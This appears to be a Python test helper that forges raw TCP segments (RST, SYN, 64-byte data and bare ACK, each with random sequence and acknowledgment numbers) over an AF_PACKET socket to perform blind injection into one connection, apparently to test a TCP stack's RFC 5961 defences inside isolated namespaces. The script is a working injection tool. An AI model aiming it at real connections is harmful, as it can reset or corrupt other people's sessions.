#!/usr/bin/env python3
"""Blind injection into one TCP connection (RFC 5961's attacker: knows the
4-tuple, not the sequence numbers), written onto IFACE with an AF_PACKET
socket, always inside the test's own namespaces.

  blind_inject.py IFACE DST_MAC SRC_IP SPORT DST_IP DPORT COUNT SECONDS SEED

COUNT segments spread over SECONDS, cycling through: RST, SYN, data (ACK
and PSH, 64 bytes) and a bare ACK, each with a random sequence number and
a random acknowledgment. Prints one JSON line with how many of each went."""
import json
import random
import socket
import struct
import sys
import time

from inject import csum, mac  # the same folder: Ethernet and checksum helpers

iface, dst_mac, src_ip, sport, dst_ip, dport, count, secs, seed = sys.argv[1:10]
sport, dport, count, secs = int(sport), int(dport), int(count), float(secs)
rng = random.Random(int(seed))


with open(f"/sys/class/net/{iface}/address") as f:
    eth = mac(dst_mac) + mac(f.read()) + b"\x08\x00"
saddr, daddr = socket.inet_aton(src_ip), socket.inet_aton(dst_ip)
KINDS = [("rst", 0x04, b""), ("syn", 0x02, b""), ("data", 0x18, bytes(64)), ("ack", 0x10, b"")]


def segment(i):
    name, flags, payload = KINDS[i % len(KINDS)]
    tcp = struct.pack("!HHIIBBHHH", sport, dport, rng.getrandbits(32), rng.getrandbits(32), 5 << 4, flags, 65535, 0, 0) + payload
    pseudo = saddr + daddr + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xFFFF, 0x4000, 64, 6, 0, saddr, daddr)
    return name, eth + ip[:10] + struct.pack("!H", csum(ip)) + ip[12:] + tcp


s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
sent = {k[0]: 0 for k in KINDS}
start = time.monotonic()
for i in range(count):
    name, frame = segment(i)
    s.send(frame)
    sent[name] += 1
    # Spread evenly over SECONDS: the rate limits (per socket and per second) see a steady attack.
    ahead = (i + 1) * secs / count - (time.monotonic() - start)
    if ahead > 0:
        time.sleep(ahead)
print(json.dumps(sent), flush=True)
